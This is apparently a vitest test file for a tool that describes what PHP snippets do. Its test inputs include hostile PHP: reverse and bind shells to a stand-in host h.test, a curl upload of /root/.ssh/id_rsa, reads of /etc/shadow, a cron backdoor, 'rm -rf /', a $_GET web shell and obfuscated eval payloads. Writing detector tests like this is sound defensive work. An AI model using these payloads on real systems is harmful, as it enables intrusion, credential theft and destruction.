import { expect, test } from "vitest";
import { shown } from "./shown.ts";

test.each([
  ["echo PHP_VERSION;", "prints $PHP_VERSION"],
  ["echo json_encode(array_map(fn($x) => $x * 2, [1, 2])), PHP_EOL;", "prints …\n"],
  ['foreach (["a" => 1] as $k => $v) { printf("%s %d\\n", $k, $v); }', "prints %s %d\n…1"],
  ['function f($x) { return strtoupper($x); } echo f("x") ?? "y";', "prints X"],
  ["class A { public $x = 1; function f() { return $this->x; } } echo (new A)->f();", "prints …"],
  ['$s = <<<EOT\nHi {$x["a"]} ${y}\nEOT;\necho $s; // done', "prints Hi … …\n"],
])("PHP, what only computes is nothing: %s", (code, expected, ...args) => {
  expect(shown("php", code, ...args)).toBe(expected);
});

test.each([
  ['system("rm -rf /");', "runs sh: rm -rf /"],
  ['echo shell_exec("id");', "$`id` -> stdout; runs sh: id > $`id`; prints $(id)"],
  ["echo `id`;", "$`id` -> stdout; runs sh: id > $`id`; prints $(id)"],
  [
    'exec("cat /etc/shadow", $o); print_r($o);',
    "$`cat /etc/shadow` -> stdout; runs sh: cat /etc/shadow > $`cat /etc/shadow`; prints $(cat /etc/shadow)",
  ],
  ['$h = popen("id", "r"); echo fread($h, 99);', "$`id` -> stdout; runs sh: id > $`id`; prints $(command)"],
  ['proc_open(["ls", "-l"], [], $p);', "runs ls -l > $`ls -l`"],
  ['pcntl_exec("/bin/sh", ["-p"]);', "runs /bin/sh -p"],
  ['$f = "sys" . "tem"; $f("id");', "runs sh: id"],
  ['array_map("system", ["id", "ls"]);', "runs sh: id; runs sh: ls"],
  ['call_user_func("system", "id"); call_user_func_array("passthru", ["id"]);', "runs sh: id; runs sh: id"],
  ['usort($a, "system"); register_shutdown_function("system", "id");', "runs sh: …; runs sh: id"],
  ['(function($c) { system($c); })("id");', "runs sh: id"],
  ['("sy" . "stem")("id");', "runs sh: id"],
  ['$_ = "\\x73ystem"; $_("id");', "runs sh: id"],
  ['if (isset($_GET["c"])) { system($_GET["c"]); }', "stdin -> code shell; runs sh: $$_GET"],
  ['\\system("id"); SYSTEM("id");', "runs sh: id; runs sh: id"],
  ['putenv("LD_PRELOAD=/tmp/x.so"); mail("a", "b", "c"); system("ls");', "runs sh: ls with LD_PRELOAD=/tmp/x.so"],
])("PHP runs programs: %s", (code, expected, ...args) => {
  expect(shown("php", code, ...args)).toBe(expected);
});

test.each([
  ['readfile("/etc/shadow");', "reads /etc/shadow; /etc/shadow -> stdout; prints $file"],
  ['echo file_get_contents("/etc/shadow");', "reads /etc/shadow; /etc/shadow -> stdout; prints $file"],
  [
    'file_put_contents("/etc/cron.d/x", "* * * * * root id\\n");',
    "writes /etc/cron.d/x truncates; '* * * * * root id\n' -> /etc/cron.d/x",
  ],
  [
    'file_put_contents("a", "x", FILE_APPEND); unlink("/etc/a"); copy("/etc/shadow", "/tmp/s");',
    "appends a; deletes /etc/a; reads /etc/shadow; writes /tmp/s truncates; /etc/shadow -> /tmp/s; 'x' -> a",
  ],
  ['$f = fopen("/tmp/o", "w"); fwrite($f, "x"); fclose($f);', "writes /tmp/o truncates; 'x' -> /tmp/o"],
  ['foreach (glob("/etc/*.conf") as $f) unlink($f);', "deletes /etc/*.conf"],
  [
    'print_r(getenv()); echo $_ENV["AWS_SECRET_ACCESS_KEY"];',
    "environment -> stdout; $AWS_SECRET_ACCESS_KEY -> stdout; prints …$AWS_SECRET_ACCESS_KEY",
  ],
  ['chmod("/tmp/x", 04755);', "configures /tmp/x mode=04755"],
  ['include "x.php"; require_once __DIR__ . "/y.php";', "runs php file x.php; runs php file $__DIR__/y.php"],
])("PHP reads and writes files: %s", (code, expected, ...args) => {
  expect(shown("php", code, ...args)).toBe(expected);
});

test.each([
  [
    '$sock=fsockopen("h.test",4242);exec("/bin/sh -i <&3 >&3 2>&3");',
    "connects tcp://h.test:4242; runs sh: /bin/sh -i <&3 >&3 2>&3 > $`/bin/sh -i <&3 >&3 2>&3`",
  ],
  [
    '$s=fsockopen("h.test",9001);proc_open("sh",[$s,$s,$s],$p);',
    "connects tcp://h.test:9001; runs sh: sh < tcp://h.test:9001 > tcp://h.test:9001",
  ],
  [
    '$s=socket_create(AF_INET,SOCK_STREAM,SOL_TCP);socket_bind($s,"0.0.0.0",9001);socket_listen($s,1);$cl=socket_accept($s);$in=socket_read($cl,100);$cmd=popen("$in","r");socket_write($cl,fgetc($cmd));',
    "listens tcp://0.0.0.0:9001; tcp://0.0.0.0:9001 -> code shell; $`$(socket)` -> tcp://0.0.0.0:9001; runs sh: $(socket) > $`$(socket)`",
  ],
  [
    'file_put_contents("/tmp/x", file_get_contents("http://h.test/x"));',
    "connects http://h.test/x; writes /tmp/x truncates; http://h.test/x -> /tmp/x",
  ],
  [
    '$c = curl_init("http://h.test/"); curl_setopt($c, CURLOPT_POSTFIELDS, file_get_contents("/root/.ssh/id_rsa")); curl_exec($c);',
    "reads /root/.ssh/id_rsa; connects http://h.test/; /root/.ssh/id_rsa -> http://h.test/; http://h.test/ -> stdout; prints $(h.test)",
  ],
])("PHP connects: %s", (code, expected, ...args) => {
  expect(shown("php", code, ...args)).toBe(expected);
});

test.each([
  ["eval(\"system('id');\");", "runs sh: id"],
  ['eval(base64_decode("c3lzdGVtKCdpZCcpOw=="));', "runs sh: id"],
  ["eval(str_rot13(\"flfgrz('vq');\"));", "runs sh: id"],
  ['eval(gzinflate(base64_decode("S0==")));', "'' -> code php; opaque-code decoded: php code that is made when it runs"],
  [
    'eval(file_get_contents("http://h.test/x"));',
    "connects http://h.test/x; http://h.test/x -> code php; opaque-code network: php code that is made when it runs",
  ],
  ["assert(\"system('id')\");", "runs sh: id"],
  ['preg_replace("/x/e", "system(\'id\')", "x");', "runs sh: id"],
  ['include "data:text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOw==";', "runs sh: id"],
  ['$f = $_GET["f"]; $f("id");', "stdin -> code php; opaque-code inline: a function that is chosen when it runs"],
])("PHP evaluates text: %s", (code, expected, ...args) => {
  expect(shown("php", code, ...args)).toBe(expected);
});

test.each([['<h1>hi</h1><?php system("id"); ?> rest system("no")', "runs sh: id"]])(
  "PHP between tags: %s",
  (code, expected, ...args) => {
    expect(shown("php", code, ...args)).toBe(expected);
  },
);

test.each([
  ['echo "unfinished', "opaque-code inline: php code that could not be read"],
  ['echo frobnicate(1); $x = new App\\Kernel("prod"); $x->run();', "opaque-code project: php calls frobnicate; prints …"],
])("PHP that cannot be read or is not known: %s", (code, expected, ...args) => {
  expect(shown("php", code, ...args)).toBe(expected);
});
